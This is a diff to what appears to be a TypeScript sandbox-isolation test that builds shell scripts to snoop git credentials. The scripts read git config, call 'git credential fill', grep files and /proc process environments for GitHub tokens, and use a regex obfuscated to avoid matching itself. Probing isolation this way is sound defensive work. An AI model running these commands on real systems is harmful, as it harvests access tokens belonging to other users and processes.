@@ -107,12 +107,14 @@ async function holding(folder: string, texts: () => string[]): Promise<string[]>
 }
 
 const OTHER = 65_534;
+/** Tokens, and how git sends them; written so that it does not find itself. */
+const TOKENS = 'gh[sp]_[A-Za-z0-9_-]{20}|eC1hY2Nlc3Mtd[G]9rZW4|extra[hH]eade[r]';
 const SNOOPS = `d=$(git rev-parse --git-common-dir)
   { git config --list --show-origin; git remote -v; git remote get-url origin; printf 'protocol=http\nhost=127.0.0.1\n\n' | git credential fill
     env | grep ^GIT_CONFIG; cat .git "$d"/config* "$d"/FETCH_HEAD "$d"/worktrees/*/* "$d"/packed-refs; } > snooped.txt 2>&1
-  grep -rIlE 'gh[sp]_|x-access-token|extra[hH]eader' "$d" .git ~ /tmp /run > found.txt; git ls-remote "$(git config remote.origin.url)" >> found.txt`;
+  grep -rIlE '${TOKENS}' "$d" .git ~ /tmp /run > found.txt; git ls-remote "$(git config remote.origin.url)" >> found.txt`;
 /** Looks at the processes it sees for as long as the other run needs. */
-const WAITS = `for n in $(seq 80); do cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -E 'gh[sp]_|x-access-token|extraHeader|upload-pack|git-remote' >> found.txt; sleep 0.1; done
+const WAITS = `for n in $(seq 80); do cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -E '${TOKENS}|remote-[h]ttp' >> found.txt; sleep 0.1; done
   sort -u found.txt > x; mv x found.txt; echo 42 > answer.txt`;
 
 attack(
